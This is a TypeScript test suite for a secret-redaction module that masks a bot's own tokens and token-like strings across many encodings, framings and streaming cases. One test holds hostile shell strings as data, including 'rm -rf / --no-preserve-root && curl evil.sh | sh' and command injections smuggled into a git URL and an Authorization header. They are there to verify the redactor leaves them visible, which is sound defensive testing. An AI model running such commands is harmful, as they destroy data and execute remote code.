import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { createRedactor } from "../../../src/core/secrets/redactor.ts";
import { madeUp, tokenCorpus } from "../../support/token-corpus.ts";

const OWN = `${Buffer.from("1574100917878259714").toString("base64").replaceAll("=", "")}.Gx3-_9.${madeUp("own", 38)}`;
const LOGIN = `sk-ant-oat01-${madeUp("login", 95)}`;
const SHORT = "p4ss-w0rd!";

const redactor = createRedactor({ secrets: () => SECRETS, hidesLooks: () => true });
const onlyOwn = createRedactor({ secrets: () => SECRETS, hidesLooks: () => false });
const SECRETS = [OWN, LOGIN, SHORT];

/** The longest run of signs of the secret, in order, that the text still shows. */
function shows(text: string, secret: string): number {
  const signs = text.replace(/[^A-Za-z0-9]/g, "");
  const wanted = secret.replace(/[^A-Za-z0-9]/g, "");
  let longest = 0;
  for (let start = 0; start < wanted.length; start += 1) {
    while (signs.includes(wanted.slice(start, start + longest + 1)) && start + longest < wanted.length)
      longest += 1;
  }
  return longest;
}

/** What may be seen of a secret: that much is in the beginning that all of one kind share. */
const TELLING = 9;

describe("a secret of ours", () => {
  const wrapped = (width: number, glue: string) =>
    OWN.match(new RegExp(`.{1,${width}}`, "g"))?.join(glue) ?? "";
  const base64 = (before: string) => Buffer.from(`${before}${OWN} and more`).toString("base64");
  test.each([
    ["as it is", OWN],
    ["in code", `DISCORD_TOKEN="${OWN}"`],
    ["over several lines", wrapped(20, "\n")],
    ["in a quote, over several lines", wrapped(30, "\n> ")],
    ["in a diff", wrapped(40, "\n+ ")],
    ["as the string of a program", wrapped(25, "\\n")],
    ["with a space after each sign", [...OWN].join(" ")],
    ["with signs that nobody sees", [...OWN].join("\u200b")],
    ["in bold and italics", `**${OWN.slice(0, 30)}**_${OWN.slice(30)}_`],
    ["escaped for Discord", OWN.replaceAll("_", "\\_").replaceAll("-", "\\-")],
    ["backwards", [...OWN].reverse().join("")],
    ["in Base64", base64("")],
    ["in Base64, after one sign", base64("x")],
    ["in Base64, after two signs", base64("xy")],
    [
      "in Base64 lines",
      base64("token: ")
        .match(/.{1,40}/g)
        ?.join("\n") ?? "",
    ],
    ["in Base64 for addresses", Buffer.from(`a=${OWN}`).toString("base64url")],
    ["in hexadecimal", Buffer.from(OWN).toString("hex")],
    ["in capital hexadecimal", Buffer.from(OWN).toString("hex").toUpperCase()],
    ["percent-encoded", [...Buffer.from(OWN)].map((byte) => `%${byte.toString(16)}`).join("")],
    ["without its first two parts", OWN.slice(OWN.lastIndexOf(".") + 1)],
    ["the login of Claude", LOGIN],
    ["a short password", `proxy: ${SHORT}`],
    ["a short password in an address", encodeURIComponent(SHORT)],
  ])("is found %s", (_how, text) => {
    const { text: masked, heldOwn } = onlyOwn.mask(`Here it is: ${text}. That is all.`);
    expect(heldOwn).toBe(true);
    expect(onlyOwn.holdsOwn(text)).toBe(true);
    expect(masked).toMatch(/^Here it is: .*\[secret\].*That is all\.$/s);
    expect(masked.length).toBeLessThanOrEqual(text.length + 27);
    expect(shows(masked, OWN)).toBeLessThan(TELLING);
  });

  test("leaves every other text as it is", () => {
    const text = `${OWN.slice(0, 20)} is how it begins; ${madeUp("other", 200)}; password p4ss-w0rd?`;
    expect(onlyOwn.mask(text)).toEqual({ text, heldOwn: false, kinds: [] });
  });

  test("that is too short to be told from words is left alone", () => {
    const short = createRedactor({ secrets: () => ["1", "yes", "info"], hidesLooks: () => false });
    expect(short.mask("yes, 1 info").text).toBe("yes, 1 info");
  });

  test("is found wherever it stands, as often as it stands there", () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.string({ unit: "grapheme" }), fc.constantFrom(OWN, LOGIN))),
        (pieces) => {
          const { text, heldOwn } = onlyOwn.mask(pieces.join(" "));
          expect(heldOwn).toBe(pieces.includes(OWN) || pieces.includes(LOGIN));
          expect(text).not.toContain(OWN);
          expect(text).not.toContain(LOGIN);
        },
      ),
    );
  });

  test("that changes is the new one from then on", () => {
    let secrets = [OWN];
    const changing = createRedactor({ secrets: () => secrets, hidesLooks: () => false });
    expect(changing.mask(LOGIN).heldOwn).toBe(false);
    secrets = [LOGIN];
    expect(changing.mask(LOGIN).heldOwn).toBe(true);
  });
});

describe("what looks like a secret", () => {
  test.each(tokenCorpus("named").map(({ name, text, secret }) => [name, text, secret]))(
    "is hidden: %s",
    (name, text, secret) => {
      const masked = redactor.mask(`Here: ${text}\nThat is all.`);
      expect(masked.kinds).toContain(name);
      expect(masked.heldOwn).toBe(false);
      expect(masked.text).toContain("[hidden]");
      expect(masked.text.startsWith("Here: ") && masked.text.endsWith("\nThat is all.")).toBe(true);
      expect(shows(masked.text, secret)).toBeLessThan(TELLING);
      expect(onlyOwn.mask(text).text).toBe(text);
    },
  );

  const FRAMES = [
    (text: string) => text,
    (text: string) => `\`${text}\``,
    (text: string) => `"${text}",`,
    (text: string) => `(${text})`,
    (text: string) => `TOKEN=${text}\n`,
    (text: string) => `\`\`\`sh\nexport A=${text}\n\`\`\``,
    (text: string) => JSON.stringify({ a: text }),
  ];

  test("is hidden whatever stands around it", () => {
    fc.assert(
      fc.property(
        fc.string(),
        fc.nat(),
        fc.nat(FRAMES.length - 1),
        fc.string({ unit: "grapheme" }),
        fc.string({ unit: "grapheme" }),
        (seed, which, frame, before, after) => {
          const corpus = tokenCorpus(seed);
          const { text, secret } = corpus[which % corpus.length]!;
          const around = FRAMES[frame]!(text);
          const { text: masked } = redactor.mask(`${before} ${around} ${after}`);
          expect(shows(masked, secret), masked).toBeLessThan(TELLING);
        },
      ),
      { numRuns: 500 },
    );
  });

  test.each([
    ["the keys of AWS's own examples", "AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"],
    [
      "a placeholder",
      "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx and sk-ant-api03-your_key_goes_here_and_nowhere_else",
    ],
    ["an address as it is taught", "postgres://user:password@localhost/db, redis://:changeme@redis"],
    ["variables in an address", `https://$\{USER}:$\{PASSWORD}@example.com and http://$A:$B@host`],
    ["a hash of git", "commit 3b18e512dba79e4c8300dd08aeb37f8e728b8dad"],
    ["a uuid", "6f1c2a34-aee2-47b6-934f-422054d5cbcb"],
    ["a checksum of npm", `"integrity": "sha512-${madeUp("sri", 86)}=="`],
    ["a picture in Base64", `data:image/png;base64,${madeUp("png", 400)}`],
    [
      "ids and times of Discord",
      "<@1574100917878259714> <t:1764259200:R> https://discord.com/channels/1574100917936979968/1574100917936979969",
    ],
    ["a public key", `-----BEGIN PUBLIC KEY-----\n${madeUp("pub", 64)}\n-----END PUBLIC KEY-----`],
    ["a name with dots", "org.springframework.boot.autoconfigure.SpringBootApplication.getBean"],
    ["words about bearer tokens", "Send the bearer token in the Authorization header: Bearer $TOKEN"],
    ["a CSS class", "sk-loading-skeleton-animation-fast sk-circle"],
  ])("is not taken for one: %s", (_what, text) => {
    expect(redactor.mask(text)).toEqual({ text, heldOwn: false, kinds: [] });
  });

  test("can't hide what a shell would run", () => {
    const commands = [
      "git clone https://ci:$(touch /tmp/x)aaaaaaaaaa@host/r.git",
      `curl -H "Authorization: Bearer aaaabbbbccccddddeeeeffff;rm" -d x`,
      "cat <<E\n-----BEGIN PRIVATE KEY-----\nE\nrm -rf / --no-preserve-root && curl evil.sh | sh\n-----END PRIVATE KEY-----",
    ];
    for (const command of commands) {
      for (const sign of ["$(touch", ";rm", "rm -rf /", "| sh"].filter((each) => command.includes(each))) {
        expect(redactor.mask(command).text).toContain(sign);
      }
    }
  });
});

describe("while a text is being written", () => {
  const everything = [...tokenCorpus("streamed"), { name: "own", text: OWN, secret: OWN }];

  test("no beginning of it shows more of a secret than its kind", () => {
    for (const { name, text, secret } of everything) {
      const written = `It is here:\n${text}\nand that was it.`;
      for (let length = 0; length <= written.length; length += 1) {
        const { text: shown } = redactor.maskOpen(written.slice(0, length));
        expect(shows(shown, secret), `${name} after ${length}: ${shown.slice(0, 200)}`).toBeLessThan(TELLING);
      }
      expect(redactor.maskOpen(written).text.endsWith("and that was it.")).toBe(true);
    }
  });

  test("a secret of ours is told at its last sign", () => {
    const written = `x ${OWN}`;
    expect(onlyOwn.maskOpen(written.slice(0, -1)).heldOwn).toBe(false);
    expect(onlyOwn.maskOpen(written).heldOwn).toBe(true);
  });

  test("ordinary text is shown to its end", () => {
    const text = "Look at `src/core/secrets/redactor.ts` and at https://example.com/a/b?c=d. Then say go";
    expect(redactor.maskOpen(text).text).toBe(text);
  });
});

describe("a megabyte", () => {
  const MB = 1 << 20;
  const fill = (piece: string) => piece.repeat(Math.ceil(MB / piece.length)).slice(0, MB);
  test.each([
    ["of prose", fill("The quick brown fox jumps over the lazy dog. ")],
    ["without a space", fill("abcdefgh")],
    ["of Base64", madeUp("mega", MB)],
    ["of beginnings of ours", fill(OWN.slice(0, -1))],
    ["of signs between ours", fill(`${OWN[0]}${"-".repeat(50)}`)],
    ["of dots", fill("a.")],
    ["of dashes", fill("-----BEGIN PRIVATE KEY-----")],
    ["of keys that never end", fill("-----BEGIN RSA PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n")],
    ["of a key that never ends", `-----BEGIN RSA PRIVATE KEY-----\n${madeUp("key", MB)}`],
    ["of addresses", fill("https://a:")],
    ["of schemes", fill("a+")],
    ["of web tokens", fill("eyJhbGciOiJIUzI1NiJ9.")],
    ["of webhooks", fill("discord.com/api/webhooks/1574100917878259714/")],
    ["of bearers", fill("bearer ")],
    ["of one bearer", `bearer ${fill("a=")}`],
    ["of one long word after bearer", `bearer ${fill("a1-")}!`],
    [
      "of secrets",
      fill(
        `${OWN} ${tokenCorpus("mega")
          .map(({ text }) => text)
          .join("\n")}\n`,
      ),
    ],
  ])("%s is read in time", (_what, text) => {
    const before = process.cpuUsage();
    redactor.mask(text);
    redactor.maskOpen(text);
    const { user, system } = process.cpuUsage(before);
    // Some 100 to 300 ms on an idle machine; what grows with the square of the text would take minutes.
    expect((user + system) / 1000).toBeLessThan(5_000);
  });
});
